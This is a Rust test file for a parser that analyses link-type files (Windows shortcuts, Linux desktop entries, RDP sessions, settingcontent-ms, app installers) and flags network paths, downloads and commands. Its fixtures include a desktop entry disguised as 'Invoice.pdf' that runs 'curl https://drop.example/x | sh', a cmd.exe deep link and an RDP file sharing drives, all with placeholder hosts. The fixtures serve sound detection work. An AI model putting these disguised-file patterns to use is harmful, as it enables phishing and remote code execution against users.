use super::*;
use crate::Budget;
use creel_evidence::ContentType;
use proptest::prelude::*;

fn source(file: &str) -> Source<'_> {
    Source { bytes: file.as_bytes(), charset: Some("utf-8") }
}

fn opened(file: &str) -> Opened {
    open(source(file), &mut Opening { passwords: &[], budget: &mut Budget::default() })
}

fn links(file: &str) -> Vec<String> {
    opened(file).links.into_iter().map(|link| link.raw).collect()
}

fn features(file: &str) -> Vec<(FeatureKind, String)> {
    opened(file).features.into_iter().map(|feature| (feature.kind, feature.detail)).collect()
}

const SHORTCUT: &str = "[{000214A0-0000-0000-C000-000000000046}]\r\nProp3=19,2\r\n[InternetShortcut]\r\n\
IDList=\r\nURL=https://signin.example/a\r\nIconFile=\\\\198.51.100.7\\icons\\pdf.ico\r\n\
WorkingDirectory=\\\\files.example@SSL\\dav\r\n";
const DESKTOP: &str = "#!/usr/bin/env xdg-open\n[Desktop Entry]\nType=Application\nName=Invoice.pdf\n\
Exec=sh -c \"curl https://drop.example/x | sh\"\nIcon=application-pdf\n";
const SESSION: &str = "screen mode id:i:2\r\nfull address:s:desk.example:3389\r\ndrivestoredirect:s:*\r\n\
redirectclipboard:i:1\r\nredirectprinters:i:0\r\nremoteapplicationprogram:s:||Scanner\r\n";
const LIBRARY: &str = "<?xml version=\"1.0\"?>\n<libraryDescription xmlns=\"http://schemas.example/\">\n\
<!-- <url>https://comment.example</url> --><simpleLocation>\n<url>\\\\files.example\\share</url></simpleLocation></libraryDescription>";
const SETTING: &str = "<?xml version=\"1.0\"?><PCSettings><SearchableContent><ApplicationInformation>\
<DeepLink><![CDATA[cmd.exe /c start https://drop.example/?a=1&b=2]]></DeepLink></ApplicationInformation></SearchableContent></PCSettings>";
const INSTALLER: &str = "<AppInstaller Uri=\"https://apps.example/a.appinstaller\" Version=\"1.0\">\
<MainPackage Name=\"Reader\" Uri='https://apps.example/a.msix?x=1&amp;y=2'/></AppInstaller>";
const WEBLOC: &str = "<?xml version=\"1.0\"?><!DOCTYPE plist><plist version=\"1.0\"><dict><key>URL</key>\n\
<string>https://signin.example/b</string></dict></plist>";
const CONTACT: &str = "<?xml version=\"1.0\"?><c:contact xmlns:c=\"http://schemas.example/c\"><c:UrlCollection><c:Url>\
<c:Value>https://card.example/</c:Value></c:Url></c:UrlCollection><c:Address>desk@card.example</c:Address></c:contact>";

#[test]
fn an_internet_shortcut_leads_and_signs_in() {
    assert_eq!(
        links(SHORTCUT),
        ["https://signin.example/a", "\\\\198.51.100.7\\icons\\pdf.ico", "\\\\files.example@SSL\\dav"]
    );
    assert_eq!(
        features(SHORTCUT),
        [
            (FeatureKind::NetworkPath, "an icon is on 198.51.100.7".to_owned()),
            (FeatureKind::NetworkPath, "the folder is on files.example@SSL".to_owned()),
        ]
    );
    for link in opened(SHORTCUT).links {
        assert_eq!(&SHORTCUT[link.at.span.range()], link.raw);
    }
}

#[test]
fn files_of_other_machines_are_told_from_files_of_this_one() {
    for (url, host) in [
        ("file://198.51.100.7@80/x/run.exe", Some("198.51.100.7@80")),
        ("file:////files.example/x", Some("files.example")),
        ("file:\\\\files.example\\x", Some("files.example")),
        (
            "search-ms:query=invoice&crumb=location:\\\\files.example@SSL\\x&displayname=Search",
            Some("files.example@SSL"),
        ),
        ("file:///C:/notes.txt", None),
        ("file://localhost/x", None),
        ("https://a.example/\\\\x", None),
    ] {
        let file = format!("[InternetShortcut]\nURL={url}\n");
        let told: Vec<String> = features(&file).into_iter().map(|(_, detail)| detail).collect();
        assert_eq!(
            told,
            host.map(|host| format!("what it leads to is on {host}")).into_iter().collect::<Vec<_>>()
        );
    }
}

#[test]
fn commands_are_members_and_features() {
    for (file, command) in [
        (DESKTOP, "sh -c \"curl https://drop.example/x | sh\""),
        (SETTING, "cmd.exe /c start https://drop.example/?a=1&b=2"),
        (SESSION, "||Scanner"),
    ] {
        let opened = opened(file);
        assert_eq!(opened.members[0].bytes, command.as_bytes());
        assert_eq!(opened.members[0].kind, MemberKind::Code);
        assert_eq!(member(source(file), opened.members[0].index).as_deref(), Some(command.as_bytes()));
        assert_eq!(opened.features[0].kind, FeatureKind::Command);
        assert_eq!(&file[opened.features[0].at.span.range()], command);
    }
}

#[test]
fn a_session_tells_what_it_hands_over() {
    assert_eq!(links(SESSION), ["rdp://desk.example:3389"]);
    let told = features(SESSION);
    assert_eq!(
        told[1],
        (
            FeatureKind::RemoteSession,
            "a session on desk.example:3389, with the reader's drives, clipboard".to_owned()
        )
    );
}

#[test]
fn files_of_elements_lead() {
    assert_eq!(links(LIBRARY), ["\\\\files.example\\share"]);
    assert_eq!(features(LIBRARY)[0].0, FeatureKind::NetworkPath);
    assert_eq!(
        links(INSTALLER),
        ["https://apps.example/a.appinstaller", "https://apps.example/a.msix?x=1&y=2"]
    );
    assert_eq!(features(INSTALLER)[1].0, FeatureKind::Download);
    assert_eq!(links(WEBLOC), ["https://signin.example/b"]);
    assert_eq!(links(CONTACT), ["https://card.example/", "mailto:desk@card.example"]);
}

#[test]
fn a_binary_list_leads() {
    let mut file = b"bplist00\xd1\x01\x02SURL_\x10\x18https://signin.example/b\x08\x0b".to_vec();
    file.extend([0; 32]);
    let source = Source { bytes: &file, charset: None };
    let opened = open(source, &mut Opening { passwords: &[], budget: &mut Budget::default() });
    assert_eq!(opened.links[0].raw, "https://signin.example/b");
    assert_eq!(crate::filetype::recognise(&file), ContentType::LinkFile);
}

#[test]
fn all_of_them_are_known_by_their_content_and_others_are_not() {
    for file in [SHORTCUT, DESKTOP, SESSION, LIBRARY, SETTING, INSTALLER, WEBLOC, CONTACT] {
        assert_eq!(crate::filetype::recognise(file.as_bytes()), ContentType::LinkFile, "{file}");
    }
    for file in [
        "[settings]\nurl=https://a.example\n",
        "name:s:x\nother:i:1\n",
        "<plist><dict><key>Name</key><string>x</string><key>URL</key><string>y</string></dict></plist>",
        "<?xml version='1.0'?><rss><url>x</url></rss>",
        "[2020] minutes of the meeting\n[Shell] is a firm",
    ] {
        assert!(!is_link_file(file), "{file}");
    }
}

#[test]
fn an_ordinary_shortcut_shows_no_feature() {
    assert_eq!(
        features("[InternetShortcut]\nURL=https://intranet.example/\nIconIndex=0\nIconFile=C:\\x.ico\n"),
        []
    );
    assert_eq!(features("[Desktop Entry]\nType=Link\nURL=https://a.example/\nIcon=text-html\n"), []);
}

#[test]
fn a_file_that_breaks_off_anywhere_is_read_as_far_as_it_goes() {
    for whole in [SHORTCUT, DESKTOP, SESSION, LIBRARY, SETTING, INSTALLER, WEBLOC, CONTACT] {
        for end in 0..whole.len() {
            let file = &whole[..end];
            let opened = opened(file);
            assert!(opened.links.iter().all(|link| link.at.span.end <= end));
            for found in opened.members {
                assert_eq!(member(source(file), found.index), Some(found.bytes));
            }
        }
    }
}

#[test]
fn many_fields_meet_a_limit() {
    let file = format!("[InternetShortcut]\n{}", "URL=https://a.example/\n".repeat(20_000));
    assert_eq!(opened(&file).anomalies, [(AnomalyKind::LimitReached, "shortcut-fields".to_owned())]);
    let file = format!("<contact>{}", "<![CDATA[<a><b ".repeat(100_000));
    assert_eq!(opened(&file).links.len(), 0);
}

proptest! {
    #[test]
    fn places_lie_inside(file in "(<|>|url|DeepLink|plist|key|=|\"|\\\\\\\\a|\n|URL=|Exec=|full address:s:|<!--|-->|<!\\[CDATA\\[|\\]\\]>|é| ){0,40}") {
        let opened = opened(&file);
        for at in opened.links.iter().map(|link| link.at).chain(opened.features.iter().map(|feature| feature.at)) {
            prop_assert!(file.get(at.span.range()).is_some());
        }
        for found in opened.members {
            prop_assert_eq!(member(source(&file), found.index), Some(found.bytes));
        }
    }
}
